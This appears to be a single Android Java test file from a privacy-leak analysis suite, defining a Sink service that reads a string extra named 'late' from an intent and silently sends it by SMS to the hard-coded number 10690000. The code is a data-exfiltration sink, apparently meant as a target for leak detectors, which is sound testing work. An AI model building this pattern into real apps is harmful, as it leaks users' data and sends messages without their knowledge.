package cn.privlens.suite.pending_intent_filled_in;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;

public class Sink extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        SmsManager.getDefault().sendTextMessage("10690000", null, intent.getStringExtra("late"), null, null);
        return START_NOT_STICKY;
    }
    @Override
    public IBinder onBind(Intent intent) { return null; }
}
